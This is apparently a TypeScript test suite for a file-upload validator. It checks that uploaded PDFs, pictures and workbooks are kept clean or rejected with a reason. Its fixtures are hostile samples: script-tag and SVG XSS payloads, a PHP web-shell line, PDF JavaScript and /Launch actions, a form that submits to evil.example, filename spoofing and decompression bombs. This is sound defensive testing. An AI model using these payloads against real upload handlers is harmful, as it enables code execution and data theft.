// Tests of uploads: a small corpus of honest and hostile files: stored ones are clean, rejected ones get a reason. [promises P16]
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { aWorkbook, GOOD_LISTS, HOSTILE_LISTS } from '../../../testing/test-lists.ts';
import { Problem } from '../../platform/problem.ts';
import { checkUpload, SCANS_AND_LISTS } from './upload.ts';

const sheet = { create: { width: 64, height: 40, channels: 3 as const, background: '#884400' } };
const PNG = await sharp(sheet).png().toBuffer();
const JPG = await sharp(sheet)
  .jpeg()
  .withExif({ IFD0: { Copyright: '<script>alert(1)</script>' } })
  .toBuffer();
const WEBP = await sharp(sheet).webp().toBuffer();
const SCRIPT = Buffer.from('<script>alert(1)</script>');

/** A small document; `objects` stand in its middle. */
function pdf(objects: string | Buffer = '', head = '%PDF-1.7\n'): Buffer {
  const body =
    '1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n';
  return Buffer.concat([
    Buffer.from(head + body),
    Buffer.from(objects),
    Buffer.from('\nxref\n0 1\ntrailer << /Root 1 0 R >>\nstartxref\n9\n%%EOF\n'),
  ]);
}
const packed = (text: string, filter = '/FlateDecode') =>
  Buffer.concat([
    Buffer.from(`4 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter ${filter} >>\nstream\n`),
    deflateSync(text),
    Buffer.from('\nendstream\nendobj\n'),
  ]);

async function send(
  name: string,
  bytes: Buffer,
  type = '',
  takes?: typeof SCANS_AND_LISTS,
): Promise<string> {
  try {
    const file = await checkUpload({ name, type, bytes, tooLarge: false }, '/file', takes);
    return file.kind;
  } catch (error) {
    assert.ok(error instanceof Problem, String(error));
    assert.equal(error.fields[0]?.pointer, '/file');
    return String(error.fields[0]?.code);
  }
}

test('checkUpload › honest files › kept as what they are, under any spelling of the ending [promises P16]', async () => {
  assert.equal(await send('vat.pdf', pdf(), 'application/pdf'), 'pdf');
  assert.equal(
    await send('VAT.PDF', pdf(packed('1 0 << /Type /Page >>')), 'application/octet-stream'),
    'pdf',
  );
  assert.equal(await send('scan.png', PNG, 'image/png'), 'png');
  assert.equal(await send('scan.JPEG', JPG, 'image/jpeg'), 'jpg');
  assert.equal(await send('scan.webp', WEBP, 'image/webp'), 'webp');
});

test('checkUpload › pictures › are made anew: nothing of what was hidden in them is left [promises P16]', async () => {
  const zip = Buffer.from('PK\x03\x04 archive PK\x05\x06');
  for (const [name, bytes] of [
    ['a.png', Buffer.concat([PNG, SCRIPT, zip])],
    ['a.jpg', Buffer.concat([JPG, Buffer.from('<?php system($_GET[0]); ?>'), zip])],
    ['a.webp', Buffer.concat([WEBP, SCRIPT])],
  ] as const) {
    const { bytes: kept } = await checkUpload({ name, type: '', bytes, tooLarge: false }, '/file');
    for (const trace of ['<script', '<?php', 'PK\x03\x04', 'alert'])
      assert.equal(kept.includes(trace), false, `${name} ${trace}`);
    assert.equal((await sharp(kept).metadata()).width, 64);
  }
});

const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';
const HOSTILE: [what: string, name: string, bytes: Buffer, rejection: string, type?: string][] = [
  ['nothing', 'a.pdf', Buffer.alloc(0), 'file-empty'],
  ['a drawing that runs', 'a.svg', Buffer.from(svg), 'file-type-not-taken', 'image/svg+xml'],
  [
    'a drawing called a picture',
    'a.png',
    Buffer.from(`<?xml version="1.0"?>${svg}`),
    'file-type-not-taken',
    'image/png',
  ],
  ['a page called a document', 'a.pdf', Buffer.from(`<html>${SCRIPT}`), 'file-type-not-taken'],
  [
    'a GIF that is a script',
    'a.gif',
    Buffer.from('GIF89a/*<svg onload=alert(1)>*/=1;'),
    'file-type-not-taken',
  ],
  ['a program', 'a.exe', Buffer.from('MZ\x90\0'), 'file-type-not-taken'],
  ['a program with a second ending', 'a.pdf.exe', pdf(), 'file-type-not-taken'],
  ['an ending that is turned around', 'a\u202egnp.exe', PNG, 'file-type-not-taken'],
  ['a NUL in the name', 'a.png\0.exe', PNG, 'file-type-not-taken'],
  ['a picture called another', 'a.jpg', PNG, 'file-type-not-taken'],
  ['a document called a picture', 'a.png', pdf(), 'file-type-not-taken'],
  ['a type that was not declared', 'a.pdf', pdf(), 'file-type-not-taken', 'text/html'],
  ['an archive', 'a.pdf', Buffer.from('PK\x03\x04zip'), 'file-type-not-taken'],
  ['a name without end', `${'a'.repeat(10_000)}.exe`, PNG, 'file-type-not-taken'],
  ['a picture cut short', 'a.png', PNG.subarray(0, 60), 'file-damaged'],
  ['a head and nothing else', 'a.jpg', Buffer.from('\xff\xd8\xff\xe0', 'latin1'), 'file-damaged'],
  ['a document cut short', 'a.pdf', pdf().subarray(0, 120), 'file-damaged'],
  [
    'a document after something else',
    'a.pdf',
    Buffer.concat([SCRIPT, pdf()]),
    'file-type-not-taken',
  ],
  [
    'a document with a script',
    'a.pdf',
    pdf('5 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj'),
    'file-active-content',
  ],
  [
    'the same in another spelling',
    'a.pdf',
    pdf('5 0 obj\n<< /S /J#61vaScr#69pt /JS (app.alert(1)) >>\nendobj'),
    'file-active-content',
  ],
  [
    'the same packed away',
    'a.pdf',
    pdf(packed('5 0 << /S /JavaScript /JS (app.alert(1)) >>')),
    'file-active-content',
  ],
  [
    'a pack with a hidden name',
    'a.pdf',
    pdf(
      Buffer.from(packed('5 0 << >>').toString('latin1').replace('/ObjStm', '/Obj#53tm'), 'latin1'),
    ),
    'file-active-content',
  ],
  [
    'a pack nobody can open',
    'a.pdf',
    pdf(packed('x', '[/ASCIIHexDecode /FlateDecode]')),
    'file-active-content',
  ],
  [
    'a document that starts a program',
    'a.pdf',
    pdf('5 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj'),
    'file-active-content',
  ],
  [
    'a document with a file inside',
    'a.pdf',
    pdf('5 0 obj\n<< /Names << /EmbeddedFiles 6 0 R >> >>\nendobj'),
    'file-active-content',
  ],
  [
    'a form that sends itself',
    'a.pdf',
    pdf('5 0 obj\n<< /S /SubmitForm /F (http://evil.example) >>\nendobj'),
    'file-active-content',
  ],
  ['a locked document', 'a.pdf', pdf('trailer << /Encrypt 9 0 R >>'), 'file-active-content'],
  [
    'a document that is a page too',
    'a.pdf',
    pdf('', '%PDF-1.4\n<script>alert(1)</script>\n'),
    'file-active-content',
  ],
  [
    'a document that is an archive too',
    'a.pdf',
    pdf('PK\x03\x04 PK\x05\x06'),
    'file-active-content',
  ],
  [
    'a pack that unpacks without end',
    'a.pdf',
    pdf(packed('0'.repeat(40 * 1024 * 1024))),
    'file-damaged',
  ],
];

for (const [what, name, bytes, rejection, type = ''] of HOSTILE) {
  test(`checkUpload › ${what} › ${rejection} [promises P16]`, async () =>
    assert.equal(await send(name, bytes, type), rejection));
}

for (const { about, name, type, bytes } of GOOD_LISTS)
  test(`checkUpload › ${about} › kept as it was sent where lists are taken, refused elsewhere with what is taken [promises P16]`, async () => {
    const sent = { name, type, bytes, tooLarge: false };
    const file = await checkUpload(sent, '/file', SCANS_AND_LISTS);
    assert.equal(file.kind, name.split('.').at(-1)?.toLowerCase());
    assert.ok(file.bytes.equals(bytes));
    await assert.rejects(
      checkUpload(sent, '/file'),
      (error: Problem) => error.fields[0]?.params?.types === 'PDF, PNG, JPG, WebP',
    );
  });

for (const { about, name, type, bytes, code } of HOSTILE_LISTS)
  test(`checkUpload › ${about} › ${code} where lists are taken [promises P16]`, async () =>
    assert.equal(await send(name, bytes, type, SCANS_AND_LISTS), code));

test('checkUpload › where lists are taken › the sentence names them', async () => {
  await assert.rejects(
    checkUpload(
      { name: 'a.exe', type: '', bytes: Buffer.from('MZ'), tooLarge: false },
      '/file',
      SCANS_AND_LISTS,
    ),
    (error: Problem) => error.fields[0]?.params?.types === 'PDF, PNG, JPG, WebP, XLSX, CSV',
  );
});

test('checkUpload › a workbook that unpacks to 130 MiB, in one part or in many › refused, whatever its directory says [promises P16]', async () => {
  const spaces = Buffer.alloc(130 * 1_048_576, ' ');
  const one = aWorkbook({ 'xl/worksheets/sheet2.xml': spaces });
  const part = spaces.subarray(0, 13 * 1_048_576);
  const many = aWorkbook(
    Object.fromEntries(Array.from({ length: 10 }, (_, n) => [`xl/media/image${n}.bin`, part])),
  );
  for (const bytes of [one, many]) {
    assert.ok(bytes.length < 1_048_576);
    assert.equal(await send('a.xlsx', bytes, '', SCANS_AND_LISTS), 'file-damaged');
  }
});

test('checkUpload › a flood of pixels in a small file › refused before it is unpacked, naming the limit [promises P16]', async () => {
  const flood = await sharp({
    create: { width: 15_000, height: 4_000, channels: 3, background: '#fff' },
  })
    .png({ compressionLevel: 9 })
    .toBuffer();
  assert.ok(flood.length < 1_000_000);
  await assert.rejects(
    checkUpload({ name: 'a.png', type: '', bytes: flood, tooLarge: false }, '/file'),
    (error: Problem) =>
      error.fields[0]?.code === 'picture-too-large' && error.fields[0].params?.n === 40,
  );
});

test('checkUpload › ten MiB and a byte › refused, naming the limit [promises P16]', async () => {
  const file = { name: 'a.pdf', type: '', bytes: Buffer.alloc(0), tooLarge: true };
  await assert.rejects(
    checkUpload(file, '/vatdocument'),
    (error: Problem) =>
      error.fields[0]?.code === 'file-too-large' &&
      error.fields[0].params?.n === 10 &&
      error.fields[0].pointer === '/vatdocument',
  );
  assert.equal(
    await send('a.pdf', Buffer.concat([pdf(), Buffer.alloc(10 * 1_048_576)])),
    'file-too-large',
  );
});
